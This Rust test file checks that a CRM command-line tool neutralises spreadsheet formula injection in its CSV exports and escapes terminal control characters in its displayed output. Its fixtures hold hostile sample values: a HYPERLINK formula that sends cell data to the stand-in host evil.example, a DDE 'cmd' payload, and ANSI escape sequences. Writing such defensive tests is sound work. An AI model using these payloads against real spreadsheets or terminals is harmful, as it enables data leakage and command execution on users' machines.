//! Text from records is data wherever it goes: a CSV cell never starts a spreadsheet
//! formula, and a terminal never receives a control character from a record.

use crate::util::TestEnv;

const NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)\u{1b}[2J\u{7}";
const OPPORTUNITY: &str = "-2+3+cmd|' /C calc'!A0";
const SUBJECT: &str = "\u{1b}]0;owned\u{7}call back";

/// A committed CRM whose records hold formulas and terminal escapes.
fn hostile() -> TestEnv {
    let env = TestEnv::new();
    env.write(
        "sloop.toml",
        "[team.al]\nname = \"Al\"\nrole = \"ae\"\nemail = \"al@example.com\"\n",
    );
    let toml_str = |s: &str| toml::Value::String(s.into()).to_string();
    env.write(
        "accounts/evil.toml",
        format!(
            "name = {}\nstatus = \"working\"\nowner = \"al\"\nindustry = \"@SUM(1+1)\"\n",
            toml_str(NAME)
        ),
    );
    env.write(
        "opportunities/evil-1.toml",
        format!(
            "name = {}\naccount = \"evil\"\nowner = \"al\"\nstage = \"identified\"\nsource = \
             \"outbound\"\nmrr = 1200\nclose_date = 2026-12-31\n",
            toml_str(OPPORTUNITY)
        ),
    );
    env.write(
        "activities/2026/11/task.toml",
        format!(
            "kind = \"task\"\ndate = 2026-11-20\naccount = \"evil\"\nowner = \"al\"\nsubject = \
             {}\ndue = 2026-11-25\n",
            toml_str(SUBJECT)
        ),
    );
    assert_eq!(env.git(&["init", "-q", "-b", "main"]).code, 0);
    env.commit_all("start", "2026-11-20T10:00:00Z");
    env
}

fn run_ok(env: &TestEnv, args: &[&str]) -> String {
    let run = env.run(args);
    assert_eq!(run.code, 0, "{args:?}: {}{}", run.stdout, run.stderr);
    run.stdout
}

/// A cell a spreadsheet would run: OWASP's first characters, unless the cell is a number.
fn is_formula(cell: &str) -> bool {
    let number = cell.parse::<f64>().is_ok() && !cell.contains(['i', 'I', 'n', 'N']);
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !number
}

#[test]
fn csv_cells_from_records_never_start_a_formula() {
    let env = hostile();
    let outputs = [
        &["ls", "accounts", "--format", "csv"][..],
        &["ls", "opportunities", "--format", "csv"],
        &["ls", "activities", "--format", "csv"],
        &["history", "accounts/evil", "--format", "csv"],
        &["history", "opportunities/evil-1", "--format", "csv"],
        &["export", "events", "--format", "csv"],
        &[
            "export",
            "snapshot",
            "--format",
            "csv",
            "--as-of",
            "2026-11-26",
        ],
        &["forecast", "--by", "owner", "--format", "csv"],
        &["pipeline", "--format", "csv"],
    ];
    let mut seen = Vec::new();
    for args in outputs {
        let text = run_ok(&env, args);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        for row in reader.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                assert!(!is_formula(cell), "{args:?}: formula cell {cell:?}");
                seen.push(cell.to_string());
            }
        }
    }
    // The hostile values are there, shown as text.
    for expected in [
        format!("'{NAME}"),
        format!("'{OPPORTUNITY}"),
        "'@SUM(1+1)".to_string(),
    ] {
        assert!(seen.contains(&expected), "{expected:?} not in {seen:?}");
    }
    // Numbers stay numbers.
    assert!(seen.iter().any(|c| c == "1200"), "{seen:?}");
}

#[test]
fn control_characters_from_records_are_shown_escaped() {
    let env = hostile();
    let views = [
        &["ls", "accounts"][..],
        &["ls", "activities"],
        &["history", "accounts/evil"],
        &["agenda", "--all", "--as-of", "2026-11-26"],
        &["forecast", "--by", "owner"],
        &["report", "--template", "weekly.md", "--as-of", "2026-11-26"],
    ];
    for args in views {
        let run = env.run(args);
        assert!(run.code == 0, "{args:?}: {}{}", run.stdout, run.stderr);
        for text in [&run.stdout, &run.stderr] {
            assert!(
                !text.contains(['\u{1b}', '\u{7}']),
                "{args:?}: a raw control character in {text:?}"
            );
        }
    }
    let ls = run_ok(&env, &["ls", "accounts"]);
    assert!(ls.contains("\\u{1b}[2J\\u{7}"), "{ls}");
    let agenda = run_ok(&env, &["agenda", "--all", "--as-of", "2026-11-26"]);
    assert!(
        agenda.contains("\\u{1b}]0;owned\\u{7}call back"),
        "{agenda}"
    );
}

#[test]
fn check_shows_file_names_source_lines_and_messages_escaped() {
    let env = hostile();
    // An unknown key and a syntax error whose source lines hold escapes, and a file name
    // with one.
    env.write(
        "accounts/evil.toml",
        "name = \"Evil\"\nstatus = \"working\"\nowner = \"al\"\n\"\\u001b[31mred\" = 1\n",
    );
    env.write(
        "accounts/broken.toml",
        "name = \"\u{1b}[2J\u{7}\" oops\nstatus = \"target\"\n",
    );
    env.write("accounts/\u{1b}[2Jx.toml", "name = \"X\"\n");
    let run = env.run(&["check"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(
        !run.stdout.contains(['\u{1b}', '\u{7}']) && !run.stderr.contains(['\u{1b}', '\u{7}']),
        "{:?}",
        run.stdout
    );
    // Raw control characters are a TOML syntax error: the source line is shown escaped and
    // each caret stays under its character, past the escapes before it.
    assert!(
        run.stdout.contains(
            "accounts/broken.toml:1:9: error[syntax]: invalid TOML: invalid basic string, \
             expected non-double-quote visible characters, `\\`\n \
             1 | name = \"\\u{1b}[2J\\u{7}\" oops\n   |         ^^^^^^\n\
             accounts/broken.toml:1:13: error[syntax]: invalid TOML: invalid basic string, \
             expected non-double-quote visible characters, `\\`\n \
             1 | name = \"\\u{1b}[2J\\u{7}\" oops\n   |                  ^^^^^\n\
             accounts/broken.toml:1:16: error[syntax]: invalid TOML: unexpected key or value, \
             expected newline, `#`\n \
             1 | name = \"\\u{1b}[2J\\u{7}\" oops\n   |                         ^\n"
        ),
        "{}",
        run.stdout
    );
    // A key decoded from an escape in the file: the message shows it escaped again.
    assert!(
        run.stdout.contains(
            "accounts/evil.toml:4:1: error[unknown-key]: unknown key `\\u{1b}[31mred` in an \
             account\n 4 | \"\\u001b[31mred\" = 1\n"
        ),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("accounts/\\u{1b}[2Jx.toml: error[invalid-id]"),
        "{}",
        run.stdout
    );
    // JSON carries the text as it is, escaped by JSON itself.
    let json = env.run(&["check", "--format", "json"]);
    assert!(
        json.stdout.contains("unknown key `\\u001b[31mred`"),
        "{}",
        json.stdout
    );
}
